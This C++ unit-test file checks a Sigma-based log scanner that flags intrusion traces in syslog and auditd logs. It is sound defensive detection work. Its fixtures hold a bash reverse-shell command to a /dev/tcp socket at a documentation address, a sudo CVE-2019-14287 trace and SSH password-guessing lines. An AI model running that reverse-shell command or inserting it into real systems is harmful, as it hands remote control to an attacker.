// Sigma over streamed logs: the same matches whatever the block boundaries, auditd events
// located at their first record's line, process_creation built from EXECVE, and the built-in
// rules firing on planted traces but not on their near misses.
#include <gtest/gtest.h>

#include <set>

#include "findings/triage.hpp"
#include "ppc/error.hpp"

namespace {

using findings::LogKind;

std::vector<findings::SigmaMatch> scan(
    const sigma::RuleSet& rules, const std::vector<std::pair<std::string, std::string>>& files,
    std::size_t block) {
  findings::LogScanner scanner(rules);
  for (const auto& [path, text] : files) {
    scanner.begin(path, findings::log_kind(path));
    for (std::size_t at = 0; at < text.size(); at += block) {
      std::string_view part = std::string_view(text).substr(at, block);
      scanner.data({reinterpret_cast<const uint8_t*>(part.data()), part.size()});
    }
    scanner.end();
  }
  return scanner.matches();
}

std::set<std::string> summary(const std::vector<findings::SigmaMatch>& matches) {
  std::set<std::string> out;
  for (const auto& m : matches)
    out.insert(m.title + " @" + m.source_file + ":" + std::to_string(m.line));
  return out;
}

// "bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'" as auditd writes it: arguments with
// spaces hex-encoded.
std::string hex(const std::string& s) {
  static const char* d = "0123456789ABCDEF";
  std::string out;
  for (unsigned char c : s) out += d[c >> 4], out += d[c & 15];
  return out;
}

const std::string kAuth =
    "Dec  1 10:00:00 web sshd[900]: Accepted publickey for alice from 198.51.100.4 port 50000 "
    "ssh2\n"
    "Dec  1 10:01:00 web sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=#-1 ; "
    "COMMAND=/bin/bash\n"
    "Dec  1 10:01:05 web sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; "
    "COMMAND=/bin/ls\n"
    "Dec  1 10:02:00 web sshd[901]: Failed password for invalid user admin from 203.0.113.50 port "
    "40001 ssh2\n"
    "Dec  1 10:02:01 web sshd[901]: Failed password for alice from 203.0.113.50 port 40002 ssh2\n"
    "Dec  1 10:02:02 web sshd[901]: error: maximum authentication attempts exceeded for invalid "
    "user admin from 203.0.113.50 port 40001 ssh2 [preauth]\n";

std::string audit() {
  std::string cmd = "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1";
  return "type=SYSCALL msg=audit(1700000000.100:51): arch=c000003e syscall=59 success=yes exit=0 "
         "ppid=1 pid=4242 auid=1000 uid=0 comm=\"bash\" exe=\"/usr/bin/bash\" key=\"exec\"\n"
         "type=EXECVE msg=audit(1700000000.100:51): argc=3 a0=\"bash\" a1=\"-c\" a2=" +
         hex(cmd) +
         "\n"
         "type=CWD msg=audit(1700000000.100:51): cwd=\"/root\"\n"
         "type=EOE msg=audit(1700000000.100:51): \n"
         "type=SYSCALL msg=audit(1700000001.200:52): arch=c000003e syscall=59 success=yes exit=0 "
         "ppid=1 pid=4243 auid=1000 uid=0 comm=\"cat\" exe=\"/usr/bin/cat\" key=\"exec\"\n"
         "type=EXECVE msg=audit(1700000001.200:52): argc=2 a0=\"cat\" a1=\"/dev/tcp.txt\"\n"
         "type=EOE msg=audit(1700000001.200:52): \n";
}

TEST(LogKind, NamesTheNormaliserOfEachLog) {
  EXPECT_EQ(findings::log_kind("/var/log/auth.log"), LogKind::syslog);
  EXPECT_EQ(findings::log_kind("/var/log/auth.log.1"), LogKind::syslog);
  EXPECT_EQ(findings::log_kind("/var/log/secure-20261201"), LogKind::syslog);
  EXPECT_EQ(findings::log_kind("/var/log/messages"), LogKind::syslog);
  EXPECT_EQ(findings::log_kind("/var/log/audit/audit.log.2"), LogKind::auditd);
  EXPECT_EQ(findings::log_kind("/var/log/auth.log.2.gz"), LogKind::none);
  EXPECT_EQ(findings::log_kind("/var/log/syslogd.conf"), LogKind::none);
  EXPECT_EQ(findings::log_kind("/var/log/dpkg.log"), LogKind::none);
}

TEST(LogScanner, BuiltInRulesMatchThePlantedTracesOnly) {
  auto rules = findings::load_sigma_rules({});
  auto got = summary(
      scan(*rules, {{"/var/log/auth.log", kAuth}, {"/var/log/audit/audit.log", audit()}}, 1 << 20));
  std::set<std::string> want = {
      "Sudo run as user id -1 (CVE-2019-14287) @/var/log/auth.log:2",
      "SSH password guess for an account that does not exist @/var/log/auth.log:4",
      "SSH connection dropped after too many authentication failures @/var/log/auth.log:6",
      "Shell redirected to a /dev/tcp or /dev/udp socket @/var/log/audit/audit.log:1",
  };
  EXPECT_EQ(got, want);
}

TEST(LogScanner, BlockBoundariesDoNotChangeTheMatches) {
  auto rules = findings::load_sigma_rules({});
  std::vector<std::pair<std::string, std::string>> files = {{"/var/log/auth.log", kAuth},
                                                            {"/var/log/audit/audit.log", audit()}};
  auto whole = scan(*rules, files, 1 << 20);
  ASSERT_EQ(whole.size(), 4u);
  for (std::size_t block : {1u, 7u, 64u, 333u}) {
    auto parts = scan(*rules, files, block);
    ASSERT_EQ(parts.size(), whole.size()) << block;
    for (std::size_t k = 0; k < whole.size(); ++k) {
      EXPECT_EQ(parts[k].rule_id, whole[k].rule_id) << block;
      EXPECT_EQ(parts[k].line, whole[k].line) << block;
      EXPECT_EQ(parts[k].event, whole[k].event) << block;
    }
  }
}

TEST(LogScanner, AuditdMatchesCarryTimeAndDecodedFields) {
  auto rules = findings::load_sigma_rules({});
  auto m = scan(*rules, {{"/var/log/audit/audit.log", audit()}}, 1 << 20);
  ASSERT_EQ(m.size(), 1u);
  EXPECT_EQ(m[0].time, "2023-11-14T22:13:20Z");
  EXPECT_EQ(m[0].logsource, "linux/process_creation/");
  EXPECT_NE(m[0].event.find(R"("CommandLine":"bash -c bash -i >& /dev/tcp/203.0.113.7/4444 0>&1")"),
            std::string::npos)
      << m[0].event;
  auto f = findings::findings_from_sigma(m);
  ASSERT_EQ(f.size(), 1u);
  EXPECT_EQ(f[0].severity, "critical");
  EXPECT_EQ(f[0].attack_techniques, "T1059.004,T1095");
  EXPECT_EQ(f[0].attack_tactics, "execution,command-and-control");
  EXPECT_EQ(f[0].object, "/var/log/audit/audit.log:1");
}

TEST(LogScanner, RuleLoadErrorsNameFileAndReason) {
  try {
    findings::load_sigma_rules({"/nonexistent/rules"});
    FAIL() << "no error";
  } catch (const ppc::Error& e) {
    EXPECT_EQ(e.error_class(), ppc::ErrorClass::usage);
    EXPECT_NE(std::string(e.what()).find("/nonexistent/rules: no such file or folder"),
              std::string::npos);
  }
}

}  // namespace
